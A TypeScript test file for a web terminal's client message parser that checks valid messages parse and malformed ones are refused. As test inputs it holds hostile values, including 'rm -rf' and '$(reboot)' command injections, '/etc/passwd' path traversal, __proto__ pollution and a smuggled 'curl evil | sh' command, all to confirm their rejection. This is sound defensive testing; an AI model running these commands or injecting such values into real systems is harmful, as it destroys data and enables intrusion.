/** The wire protocol's edge: every valid client message parses; everything else is refused with a reason. */
import assert from 'node:assert/strict';
import {test} from 'node:test';
import {parseClientMessage, PROTOCOL_VERSION, serverMessage} from '../../src/core/protocol/messages';

const valid: unknown[] = [
  {type: 'attach', protocol: PROTOCOL_VERSION, cols: 80, rows: 24},
  {type: 'attach', protocol: PROTOCOL_VERSION, sessionId: 'abcDEF12_-', cols: 120, rows: 40},
  {type: 'input', data: 'echo hi\r'},
  {type: 'resize', cols: 100, rows: 30},
  {type: 'run', locale: 'en', pageId: 'install/k3d', stepId: 'create-cluster'},
  {type: 'run', locale: 'ko', pageId: 'intro', stepId: 'a'},
  {type: 'page', locale: 'ko', pageId: 'intro'},
  {type: 'reset-progress', pageId: 'intro'},
  {type: 'attach', protocol: PROTOCOL_VERSION, sessionId: 'abcDEF12_-', takeOver: true, cols: 80, rows: 24},
  {type: 'needs', locale: 'en', pageId: 'install-istio'},
  {type: 'catch-up', locale: 'ko', pageId: 'traffic-waypoint'},
  {type: 'cancel-catch-up'},
  {type: 'ping', t: 12345},
];

test('accepts every valid client message type', () => {
  for (const message of valid) {
    const parsed = parseClientMessage(JSON.stringify(message));
    assert.ok(parsed.ok, `${JSON.stringify(message)}: ${parsed.ok ? '' : parsed.error}`);
    assert.deepEqual(parsed.message, message);
  }
});

test('refuses text that is not JSON', () => {
  for (const text of ['', '{', 'hello', '{"type":"ping",}', '\u0000']) {
    const parsed = parseClientMessage(text);
    assert.equal(parsed.ok, false, text);
    if (!parsed.ok) assert.match(parsed.error, /JSON/);
  }
});

test('refuses JSON that is not a message object', () => {
  for (const text of ['null', '42', '"attach"', '[]', '{}', '{"type":null}']) {
    assert.equal(parseClientMessage(text).ok, false, text);
  }
});

test('refuses an unknown message type', () => {
  const parsed = parseClientMessage(JSON.stringify({type: 'exec', command: 'rm -rf /'}));
  assert.equal(parsed.ok, false);
});

test('refuses oversize input', () => {
  const parsed = parseClientMessage(JSON.stringify({type: 'input', data: 'x'.repeat(64 * 1024 + 1)}));
  assert.equal(parsed.ok, false);
  if (!parsed.ok) assert.match(parsed.error, /data/);
  assert.equal(parseClientMessage(JSON.stringify({type: 'input', data: ''})).ok, false, 'empty input');
});

test('refuses bad terminal sizes', () => {
  for (const [cols, rows] of [
    [1, 24],
    [1001, 24],
    [80, 0],
    [80, 501],
    [80.5, 24],
    ['80', 24],
    [-1, 24],
    [Number.MAX_SAFE_INTEGER, 24],
  ]) {
    const parsed = parseClientMessage(JSON.stringify({type: 'resize', cols, rows}));
    assert.equal(parsed.ok, false, `${cols}x${rows}`);
  }
  const parsed = parseClientMessage(JSON.stringify({type: 'resize', cols: 1e9, rows: 24}));
  assert.equal(parsed.ok, false);
  if (!parsed.ok) assert.match(parsed.error, /^cols: /, 'the error names the field');
});

test('refuses attach with a wrong protocol version or a malformed session id', () => {
  assert.equal(parseClientMessage(JSON.stringify({type: 'attach', protocol: 999, cols: 80, rows: 24})).ok, false);
  for (const sessionId of ['short', '../../etc/passwd', 'a b c d e f g h', 'x'.repeat(65), 'abcdefgh;rm', '']) {
    assert.equal(
      parseClientMessage(JSON.stringify({type: 'attach', protocol: PROTOCOL_VERSION, sessionId, cols: 80, rows: 24}))
        .ok,
      false,
      sessionId,
    );
  }
});

test('refuses injection attempts in step and page ids', () => {
  const bad = [
    {type: 'run', locale: 'en', pageId: '../secrets', stepId: 'a'},
    {type: 'run', locale: 'en', pageId: 'intro', stepId: 'a; rm -rf ~'},
    {type: 'run', locale: 'en', pageId: 'intro', stepId: '$(reboot)'},
    {type: 'run', locale: 'fr', pageId: 'intro', stepId: 'a'},
    {type: 'run', locale: 'en', pageId: 'Intro', stepId: 'a'},
    {type: 'page', locale: 'en', pageId: '/etc/passwd'},
    {type: 'reset-progress', pageId: '__proto__'},
  ];
  for (const message of bad)
    assert.equal(parseClientMessage(JSON.stringify(message)).ok, false, JSON.stringify(message));
});

test('strips keys a message does not define (a run cannot smuggle a command)', () => {
  const parsed = parseClientMessage(
    JSON.stringify({
      type: 'run',
      locale: 'en',
      pageId: 'intro',
      stepId: 'a',
      command: 'curl evil | sh',
      __proto__: {x: 1},
    }),
  );
  assert.ok(parsed.ok);
  assert.deepEqual(Object.keys(parsed.message).sort(), ['locale', 'pageId', 'stepId', 'type']);
  assert.equal((parsed.message as Record<string, unknown>).command, undefined);
});

test('prototype pollution through __proto__ has no effect', () => {
  const parsed = parseClientMessage('{"type":"ping","t":1,"__proto__":{"polluted":true}}');
  assert.ok(parsed.ok);
  assert.equal(({} as Record<string, unknown>).polluted, undefined);
});

test('the server messages the page reads parse: outline, needs, catch-up, a result with its shell', () => {
  const messages: unknown[] = [
    {type: 'outline', locale: 'en', pages: [{pageId: 'intro', title: 'Intro', steps: [{id: 'a', changesShell: true}]}]},
    {
      type: 'needs',
      locale: 'ko',
      pageId: 'install-istio',
      needs: [{kind: 'cluster', name: 'k3d', pageId: 'create-cluster', stepId: 'cluster-create', met: false}],
      plan: [{pageId: 'create-cluster', stepId: 'cluster-create'}],
    },
    {
      type: 'catch-up',
      locale: 'en',
      pageId: 'install-istio',
      state: 'failed',
      plan: [{pageId: 'create-cluster', stepId: 'cluster-create'}],
      done: 0,
      current: {pageId: 'create-cluster', stepId: 'cluster-create'},
      message: 'exit code: expected 0',
    },
    {
      type: 'step',
      result: {pageId: 'a', stepId: 'b', status: 'passed', via: 'catch-up', shell: 'abcDEF12_-xyz'},
    },
    {type: 'error', code: 'taken-over', message: 'another tab took this terminal over'},
    {type: 'shell', state: 'slow', rcFiles: ['/etc/bash.bashrc', '/home/me/.bashrc'], timeoutMs: 15_000},
  ];
  for (const message of messages) assert.ok(serverMessage.safeParse(message).success, JSON.stringify(message));
  assert.equal(
    serverMessage.safeParse({type: 'catch-up', locale: 'en', pageId: 'x', state: 'done', plan: [], done: 0}).success,
    false,
    'an unknown catch-up state',
  );
  assert.equal(serverMessage.safeParse({type: 'shell', state: 'hung', rcFiles: [], timeoutMs: 1}).success, false);
});
